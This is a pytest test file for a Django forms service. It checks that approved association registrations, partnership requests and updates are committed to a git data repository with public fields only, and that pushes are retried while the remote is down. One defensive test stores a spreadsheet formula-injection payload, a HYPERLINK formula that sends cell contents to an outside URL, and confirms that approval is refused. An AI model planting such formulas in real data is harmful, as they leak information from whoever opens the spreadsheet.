"""An approved association registration lands in the data repository as a commit on its own
branch, authored by the reviewer, public fields only; pushed to the remote, and retried while
the remote is down."""

from __future__ import annotations

import shutil
import subprocess
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from django.contrib.auth.models import User
from django.test import Client

from forms_service import clock
from forms_service.staff.publishing import schema_errors
from forms_service.submissions.models import Publication, Submission
from forms_service.worker.commits import publish_due
from tests.forms_service.conftest import signed_in
from tests.forms_service.filling import hidden
from tests.forms_service.test_staff import step

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("staff_accounts")]


def git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(repo), *args], capture_output=True, text=True, check=True
    ).stdout.strip()


@pytest.fixture
def repository(tmp_path: Path, live_data: Path, settings: Any) -> Path:
    """A data repository with one commit on main, and a bare remote."""
    repo, remote = tmp_path / "portal", tmp_path / "remote.git"
    shutil.copytree(live_data, repo / "data")
    git(tmp_path, "init", "-q", "-b", "main", str(repo))
    git(repo, "-c", "user.name=Ministry", "-c", "user.email=m@example.org", "add", "data")
    git(repo, "-c", "user.name=Ministry", "-c", "user.email=m@example.org", "commit", "-qm", "Data")
    git(tmp_path, "init", "-q", "--bare", str(remote))
    settings.FORMS_PUBLISH_REPO, settings.FORMS_PUBLISH_REMOTE = repo, str(remote)
    return repo


def registered(client: Client, consent: bool, **changed: str) -> Submission:
    path = "/fr/forms/association-registration/"
    answers = {
        "name_latin": "Association Amal",
        "country": "BE",
        "city": "Liège",
        "founded": "2012",
        "domains": ["education"],
        "target_groups": ["young-people"],
        "description": "Soutien scolaire à Liège.",
        "public_email": "contact@amal.example.org",
        "contact_name": "Nadia Privée",
        "email": "nadia@private.example.org",
        **({"consent": "on"} if consent else {}),
        **changed,
    }
    assert client.post(path, {**answers, **hidden(client, path)}).status_code == 303
    return Submission.objects.get()


@pytest.mark.parametrize("consent", [True, False])
def test_an_approved_registration_is_committed_with_its_public_fields(
    client: Client, repository: Path, settings: Any, consent: bool
) -> None:
    settings.FORMS_MIN_FILL_SECONDS = 0
    submission = registered(client, consent)
    ministry = signed_in("ministry")
    assert step(ministry, submission, "approved", "Statuts vérifiés").status_code == 302
    assert git(repository, "branch", "--list", "submissions/*") == ""  # the worker commits it
    assert publish_due() == (1, 0)

    branch = f"submissions/{submission.reference}"
    text = git(repository, "show", f"{branch}:data/associations/association-amal-liege.yaml")
    record = yaml.safe_load(text)
    assert schema_errors("associations", record) == []
    assert record["name"]["latin"] == "Association Amal" and record["consent"] is consent
    assert ("contact@amal.example.org" in text) is consent
    assert "Nadia" not in text and "private.example.org" not in text  # nothing private
    author = git(repository, "log", "-1", "--format=%an|%s|%b", branch)
    assert author.startswith("ministry|Add association association-amal-liege")
    assert "Statuts vérifiés" in author
    assert git(repository, "rev-parse", "main") == git(repository, "rev-parse", f"{branch}~1")
    assert git(repository, "status", "--porcelain") == ""  # the working tree is untouched
    remote = Path(settings.FORMS_PUBLISH_REMOTE)
    assert git(remote, "rev-parse", branch) == git(repository, "rev-parse", branch)


def test_a_reviewer_with_the_longest_names_approves(
    client: Client, repository: Path, settings: Any
) -> None:
    """First and last names of 150 characters each (Django's limits): the commit's author is
    the name shortened to its column, not an approval refused by PostgreSQL."""
    settings.FORMS_MIN_FILL_SECONDS = 0
    submission = registered(client, True)
    User.objects.filter(username="ministry").update(first_name="Amina" * 30, last_name="B" * 150)
    assert step(signed_in("ministry"), submission, "approved", "").status_code == 302
    assert publish_due() == (1, 0)
    author = git(repository, "log", "-1", "--format=%an", f"submissions/{submission.reference}")
    assert len(author) == 150 and author == ("Amina" * 30)[:149] + "…"


def test_a_text_validate_would_refuse_is_not_approved(
    client: Client, repository: Path, settings: Any
) -> None:
    """An applicant's text that a spreadsheet opening the open data would run: approved, it
    would be committed, and then stop every publication of the site at `site-builder
    validate`. The reviewer is told why instead, and nothing is queued. (The form refuses
    such a text now, test_published_text.py; one received before it did is still held.)"""
    settings.FORMS_MIN_FILL_SECONDS = 0
    typed = '=HYPERLINK("https://example.org/?q="&A1, "Amal")'
    submission = registered(client, True)
    Submission.objects.filter(pk=submission.pk).update(
        answers={**submission.answers, "description": typed}
    )
    page = step(signed_in("ministry"), submission, "approved", "Statuts vérifiés")
    assert page.status_code == 200 and "runs as a formula" in page.content.decode()
    assert not Publication.objects.exists()
    submission.refresh_from_db()
    assert submission.status != "approved"


def test_the_remote_down_then_back(client: Client, repository: Path, settings: Any) -> None:
    settings.FORMS_MIN_FILL_SECONDS = 0
    submission = registered(client, True)
    step(signed_in("ministry"), submission, "approved", "")
    remote = Path(settings.FORMS_PUBLISH_REMOTE)
    away = remote.with_name("away.git")
    remote.rename(away)
    assert publish_due() == (0, 1)
    item = Publication.objects.get()
    assert item.commit and not item.pushed and "push" in item.last_error  # committed, kept
    away.rename(remote)
    assert publish_due() == (0, 0)  # not due yet: it waits before trying again
    assert publish_due(now=clock.now() + timedelta(minutes=2)) == (1, 0)
    assert git(remote, "rev-parse", f"submissions/{submission.reference}") == item.commit


def test_a_registration_the_schema_refuses_is_not_approved(
    client: Client, repository: Path, settings: Any
) -> None:
    settings.FORMS_MIN_FILL_SECONDS = 0
    submission = registered(client, True)
    Submission.objects.filter(pk=submission.pk).update(
        answers={**submission.answers, "founded": 1700}
    )
    response = step(signed_in("ministry"), submission, "approved", "")
    assert response.status_code == 200 and "founded" in response.content.decode()
    assert Submission.objects.get().status == "received" and not Publication.objects.exists()


@pytest.mark.parametrize("consent", [True, False])
def test_an_approved_partnership_request_is_published_only_with_consent(
    client: Client, repository: Path, settings: Any, consent: bool
) -> None:
    settings.FORMS_MIN_FILL_SECONDS = 0
    path = "/ar/forms/partnership-request/"
    answers = {
        "side": "local",
        "association_name": "Jusoor",  # with its city, the id of a published request
        "city": "Lille",
        "region": "oriental",
        "themes": ["education"],
        "description": "نبحث عن شريك لتجهيز مكتبة مدرسية.",
        "contact_name": "Nadia Privée",
        "email": "nadia@private.example.org",
        **({"consent": "on"} if consent else {}),
    }
    assert client.post(path, {**answers, **hidden(client, path)}).status_code == 303
    submission = Submission.objects.get()
    assert step(signed_in("ministry"), submission, "approved", "").status_code == 302
    assert Submission.objects.get().status == "approved"
    if not consent:
        assert not Publication.objects.exists()
        return
    taken = repository / "data" / "partnerships" / "jusoor-lille.yaml"  # published before
    shutil.copy(repository / "data" / "partnerships" / "jusoor-lille-oriental.yaml", taken)
    git(repository, "add", str(taken))
    git(repository, "-c", "user.name=M", "-c", "user.email=m@example.org", "commit", "-qm", "x")
    assert publish_due() == (1, 0)
    branch = f"submissions/{submission.reference}"
    files = git(repository, "diff", "--name-only", "main", branch)
    assert files == "data/partnerships/jusoor-lille-2.yaml"  # the sample's id is taken
    record = yaml.safe_load(git(repository, "show", f"{branch}:{files}"))
    assert record["id"] == "jusoor-lille-2" and schema_errors("partnerships", record) == []
    assert record["description"] == {"ar": answers["description"]}
    assert "Nadia" not in str(record) and "private" not in str(record)


@pytest.mark.parametrize(
    ("consented", "chosen", "published_after"),
    [
        (True, None, True),  # nothing chosen: the consent and the contact details stay
        (True, "keep", True),
        (False, "keep", False),
        (True, "withdraw", False),
        (False, "publish", True),
    ],
)
def test_an_approved_update_changes_only_what_was_answered(
    client: Client,
    repository: Path,
    settings: Any,
    consented: bool,
    chosen: str | None,
    published_after: bool,
) -> None:
    settings.FORMS_MIN_FILL_SECONDS = 0
    path = "/fr/forms/association-update/"
    published = settings.DATA_DIR / "associations" / "amal-test.yaml"  # as the service sees it
    before = yaml.safe_load(published.read_text("utf-8"))
    before["description"]["ar"] = "دعم مدرسي بليون."
    before["consent"] = consented
    if not consented:
        before.pop("contact")
    published.write_text(yaml.safe_dump(before, allow_unicode=True), encoding="utf-8")
    answers = {
        "association": "amal-test",
        "description": "Nouvelle présentation : soutien scolaire et culture.",
        "domains": ["culture"],
        "contact_name": "Amal, présidente",
        "email": "amal@example.org",
        **({"consent": chosen} if chosen else {}),
        **({"public_email": "bureau@amal-test.example.org"} if chosen == "publish" else {}),
    }
    assert client.post(path, {**answers, **hidden(client, path)}).status_code == 303
    submission = Submission.objects.get()
    assert step(signed_in("ministry"), submission, "approved", "").status_code == 302
    assert publish_due() == (1, 0)
    branch = f"submissions/{submission.reference}"
    changed = git(repository, "diff", "--name-only", "main", branch)
    assert changed == "data/associations/amal-test.yaml"  # the same file, updated
    after = yaml.safe_load(git(repository, "show", f"{branch}:{changed}"))
    assert schema_errors("associations", after) == []
    assert after["description"]["fr"] == answers["description"]
    assert after["domains"] == ["culture"] and after["name"] == before["name"]
    assert after["description"]["ar"] == "دعم مدرسي بليون."  # the other languages are kept
    assert after["consent"] is published_after
    if not published_after:
        assert "contact" not in after
    elif chosen == "publish":
        assert after["contact"] == {"email": "bureau@amal-test.example.org"}
    else:
        assert after["contact"] == before["contact"]
    assert git(repository, "log", "-1", "--format=%s", branch).startswith("Update association")
